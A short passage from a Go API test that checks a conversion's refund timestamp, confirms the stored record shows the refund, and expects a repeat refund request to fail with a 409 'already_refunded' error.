	if r.String("refundedAt") != apptest.Start.Format(time.RFC3339) {
		t.Fatalf("refundedAt = %q", r.String("refundedAt"))
	}
	if got := e.Do(t, "GET", "/v1/conversions/"+conv.String("id"), tok, nil); got.String("refundedAt") == "" {
		t.Fatalf("stored conversion: %s", got.Body)
	}
	wantProblem(t, e.Do(t, "POST", path, tok, map[string]any{}), http.StatusConflict, "already_refunded")
}
